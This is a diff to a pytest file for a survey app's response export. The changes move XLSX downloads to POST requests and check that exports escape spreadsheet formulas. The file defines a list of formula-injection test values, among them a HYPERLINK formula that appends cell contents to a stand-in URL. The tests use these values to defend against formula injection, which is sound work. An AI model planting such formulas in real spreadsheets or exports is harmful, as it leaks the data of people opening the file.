@@ -22,7 +22,7 @@ from survey.extensions import db
 from survey.models import Answer, Response, ResponseTag
 from survey.transfer import exports
 from tests.factories import add_answers, make_survey, make_user
-from tests.pages import log_in
+from tests.pages import export_workbook, log_in, post_form
 
 PAYLOADS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]
 COMMENTS = [*PAYLOADS[:3], "The 50%_off code failed", *PAYLOADS[3:]]
@@ -114,7 +114,7 @@ def test_csv_and_xlsx_hold_exactly_the_filtered_responses(analyst, ids, query, e
     assert response.headers["Content-Disposition"] == 'attachment; filename="support-csat-responses.csv"'
     assert [row["response_id"] for row in csv_rows(response.get_data(as_text=True))] == wanted
 
-    workbook = analyst.get(f"{URL}.xlsx{query}")
+    workbook = export_workbook(analyst, f"{URL}.xlsx{query}", page=f"{URL}{query}")
     assert workbook.status_code == 200 and workbook.mimetype == (
         "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
     assert workbook.headers["Content-Disposition"] == 'attachment; filename="support-csat-responses.xlsx"'
@@ -127,7 +127,7 @@ def test_formulas_are_neutralised_in_csv_and_never_formulas_in_xlsx(analyst):
         "'" + text if text in PAYLOADS else text for text in COMMENTS)
     assert [row["tags"] for row in rows].count("billing") == 1
 
-    cells, sheet = xlsx_sheet(analyst.get(f"{URL}.xlsx").get_data())
+    cells, sheet = xlsx_sheet(export_workbook(analyst, f"{URL}.xlsx", page=URL).get_data())
     assert "<f>" not in sheet and "<f " not in sheet  # no formula cell at all
     header = [text for _kind, text in cells[0]]
     assert header == list(rows[0].keys())  # the same columns as the CSV, in the same order
@@ -145,18 +145,19 @@ def test_bad_filters_export_nothing_and_say_why(analyst):
     response = analyst.get(f"{URL}.csv?from=last-week")
     assert response.status_code == 400 and response.mimetype == "text/plain"
     assert "from: 'last-week' is not a date" in response.get_data(as_text=True)
-    workbook = analyst.get(f"{URL}.xlsx?to=2026-13-01&version=x")
+    workbook = export_workbook(analyst, f"{URL}.xlsx?to=2026-13-01&version=x", page=URL)
     text = workbook.get_data(as_text=True)
     assert workbook.status_code == 400 and "to: " in text and "version: " in text
-    assert analyst.get("/manage/surveys/nope/responses.xlsx").status_code == 404
+    assert export_workbook(analyst, "/manage/surveys/nope/responses.xlsx", page=URL).status_code == 404
+    assert analyst.get(f"{URL}.xlsx").status_code == 405  # a GET makes no file
 
 
 def test_agents_and_strangers_cannot_export(client, ids):
     assert client.get(f"{URL}.csv").status_code == 302
-    assert "/login" in client.get(f"{URL}.xlsx").headers["Location"]
+    assert "/login" in post_form(client, f"{URL}.xlsx", page="/login").headers["Location"]
     log_in(client, "agent@example.com")
     assert client.get(f"{URL}.csv").status_code == 403
-    assert client.get(f"{URL}.xlsx").status_code == 403
+    assert post_form(client, f"{URL}.xlsx", page="/manage/cases/").status_code == 403
 
 
 @pytest.mark.parametrize("query, options, expected", [
@@ -177,7 +178,8 @@ def test_command_line_filters_match_the_page(analyst, ids, runner, tmp_path, que
     done = runner.invoke(args=["export-responses", "support-csat", "--format", "xlsx", "--output", str(target),
                                *options])
     assert done.exit_code == 0
-    assert xlsx_texts(target.read_bytes()) == xlsx_texts(analyst.get(f"{URL}.xlsx?{query}").get_data())
+    assert xlsx_texts(target.read_bytes()) == xlsx_texts(
+        export_workbook(analyst, f"{URL}.xlsx?{query}", page=URL).get_data())
 
 
 @pytest.mark.parametrize("options, status, message", [
